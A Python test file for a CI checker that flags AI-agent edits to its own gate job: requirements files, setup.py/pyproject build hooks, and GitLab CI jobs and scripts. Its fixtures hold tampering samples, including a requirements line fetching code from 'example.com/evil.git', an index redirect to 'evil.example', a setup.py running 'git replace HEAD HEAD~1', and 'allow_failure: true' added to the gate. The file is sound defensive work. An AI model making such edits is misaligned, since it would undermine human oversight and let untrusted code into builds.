"""The gate's integrity beyond scripts (issue 12, slice fixH): what the nhi-gate job's
`pip install -r <file>`, `pip install .` or `pip install -e .` installs from runs before the
check (a requirements file can name any package or URL; `pyproject.toml`/`setup.py` build
hooks run code), and a GitLab CI job that runs nhi-gate (in `.gitlab-ci.yml` or a local
`include:` file) and the scripts it runs are the gate as a GitHub workflow's are. An agent's
edit is NHI102; a person's is not reported. Real git repos."""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest
from conftest import HUMAN, GitRepo

from checker.cli import main
from checker.parsers.gate_job import run_files

CLAUDE = ("Claude", "noreply@anthropic.com")
WORKFLOW = """\
name: nhi-gate
on:
  pull_request:
jobs:
  nhi-gate:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v5
      - run: pip install -r ci/requirements-gate.txt
      - run: pip install -e .
        working-directory: tools
      - run: nhi-gate check --base origin/main
"""
GITHUB_FILES = {
    ".github/workflows/nhi-gate.yml": WORKFLOW,
    "ci/requirements-gate.txt": "nhi-gate==0.1.0\n",
    "ci/pins/base.txt": "pyyaml==6.0.2\n",
    "tools/pyproject.toml": "[project]\nname = \"tools\"\nversion = \"0.1\"\n",
    "tools/setup.py": "from setuptools import setup\nsetup()\n",
    "requirements.txt": "requests==2.32.0\n",
    "README.md": "hi\n",
}
GITLAB = """\
stages: [test]
include:
  - local: ci/gate.yml
unit:
  stage: test
  script:
    - make test
"""
GITLAB_GATE = """\
nhi-gate:
  stage: test
  script:
    - ./ci/prepare.sh
    - nhi-gate check --base "$CI_MERGE_REQUEST_DIFF_BASE_SHA"
"""
GITLAB_FILES = {
    ".gitlab-ci.yml": GITLAB,
    "ci/gate.yml": GITLAB_GATE,
    "ci/prepare.sh": "#!/bin/sh\npip install nhi-gate\n",
    "ci/other.sh": "#!/bin/sh\necho other\n",
    "README.md": "hi\n",
}


def _check(repo: GitRepo, base: str, head: str, capsys: pytest.CaptureFixture[str]
           ) -> tuple[int, list[tuple[str, str, int, bool, str]]]:  # fmt: skip
    code = main(["check", "--repo", str(repo.path), "--base", base, "--head", head,
                 "--format", "json"])
    report = json.loads(capsys.readouterr().out)
    return code, [(f["rule_id"], f["path"], f["start_line"], f["blocking"], f["message"])
                  for f in report["findings"]]


INSTALLED = {
    "ci/requirements-gate.txt": "nhi-gate==0.1.0\ngit+https://example.com/evil.git\n",
    "tools/pyproject.toml": "[project]\nname = \"tools\"\nversion = \"0.2\"\n",
    "tools/setup.py": "import os\nos.system('git replace HEAD HEAD~1')\n",
}


@pytest.mark.parametrize("path", sorted(INSTALLED))
def test_an_agent_edit_of_what_the_gate_job_pip_installs_is_nhi102(
        make_repo: Callable[..., GitRepo], capsys: pytest.CaptureFixture[str],
        path: str) -> None:
    repo = make_repo()
    base = repo.commit(GITHUB_FILES)
    head = repo.commit({path: INSTALLED[path]}, author=CLAUDE)
    code, found = _check(repo, base, head, capsys)
    assert code == 1
    line = 2 if path.endswith(".txt") else (3 if path.endswith(".toml") else 1)
    assert [(r, p, n, b) for r, p, n, b, _ in found] == [("NHI102", path, line, True)]
    assert "`run: pip install" in found[0][4]


def test_a_requirements_file_a_gate_requirements_file_names_is_the_gate(
        make_repo: Callable[..., GitRepo], capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo()
    base = repo.commit({**GITHUB_FILES, "ci/requirements-gate.txt":
                        "-r pins/base.txt  # shared pins\nnhi-gate==0.1.0\n"})
    head = repo.commit({"ci/pins/base.txt": "pyyaml==6.0.2\n--index-url https://evil.example\n"},
                       author=CLAUDE)
    code, found = _check(repo, base, head, capsys)
    assert code == 1
    assert [(r, p, n, b) for r, p, n, b, _ in found] == [("NHI102", "ci/pins/base.txt", 2, True)]
    assert "pip reads it as a requirements file" in found[0][4]


def test_a_person_may_edit_what_the_gate_job_installs(
        make_repo: Callable[..., GitRepo], capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo()
    base = repo.commit(GITHUB_FILES)
    head = repo.commit(INSTALLED, author=HUMAN)
    assert _check(repo, base, head, capsys) == (0, [])


def test_a_requirements_file_the_gate_job_does_not_install_is_not_the_gate(
        make_repo: Callable[..., GitRepo], capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo()
    base = repo.commit(GITHUB_FILES)
    head = repo.commit({"requirements.txt": "requests==2.32.3\n"}, author=CLAUDE)
    assert _check(repo, base, head, capsys) == (0, [])


def test_run_files_reads_pip_installs() -> None:
    text = ("pip install -r ci/req.txt --requirement=more.txt\n"
            "python -m pip install -e . && pip3 install --upgrade pip\n"
            "pip install ./pkg requests\n")
    # (`./pkg` is also taken for a script, as any `./` word is)
    assert sorted(run_files(text, "w", "why")) == [
        "w/ci/req.txt", "w/more.txt", "w/pkg", "w/pkg/pyproject.toml", "w/pkg/setup.cfg",
        "w/pkg/setup.py", "w/pyproject.toml", "w/setup.cfg", "w/setup.py",
    ]


# -- GitLab CI --------------------------------------------------------------------------------


GITLAB_EDITS = {
    "ci/gate.yml": GITLAB_GATE.replace("  stage: test\n", "  stage: test\n  allow_failure: true\n"),
    "ci/prepare.sh": "#!/bin/sh\npip install nhi-gate\ngit replace HEAD HEAD~1\n",
    ".gitlab-ci.yml": GITLAB.replace("include:\n  - local: ci/gate.yml\n",
                                     "include:\n  - local: ci/gate.yml\n"
                                     "default:\n  before_script:\n    - ./ci/other.sh\n"),
}
#: (a `.sh` file has no line origins, `git_sources.NEVER_READ_SUFFIXES`: its first line)
GITLAB_LINES = {"ci/gate.yml": 3, "ci/prepare.sh": 1, ".gitlab-ci.yml": 4}


@pytest.mark.parametrize("path", sorted(GITLAB_EDITS))
def test_an_agent_edit_of_the_gitlab_gate_job_or_its_scripts_is_nhi102(
        make_repo: Callable[..., GitRepo], capsys: pytest.CaptureFixture[str],
        path: str) -> None:
    repo = make_repo()
    base = repo.commit(GITLAB_FILES)
    head = repo.commit({path: GITLAB_EDITS[path]}, author=CLAUDE)
    code, found = _check(repo, base, head, capsys)
    assert code == 1
    assert [(r, p, n, b) for r, p, n, b, _ in found if r == "NHI102"] == [
        ("NHI102", path, GITLAB_LINES[path], True)]


def test_a_person_may_edit_the_gitlab_gate_job(
        make_repo: Callable[..., GitRepo], capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo()
    base = repo.commit(GITLAB_FILES)
    head = repo.commit(GITLAB_EDITS, author=HUMAN)
    code, found = _check(repo, base, head, capsys)
    assert code == 0
    assert [r for r, *_ in found if r == "NHI102"] == []


def test_an_agent_edit_of_another_gitlab_job_is_not_the_gate(
        make_repo: Callable[..., GitRepo], capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo()
    base = repo.commit(GITLAB_FILES)
    head = repo.commit({".gitlab-ci.yml": GITLAB.replace("make test", "make test lint"),
                        "ci/other.sh": "#!/bin/sh\necho changed\n"}, author=CLAUDE)
    code, found = _check(repo, base, head, capsys)
    assert [r for r, *_ in found if r == "NHI102"] == []
    assert code == 0
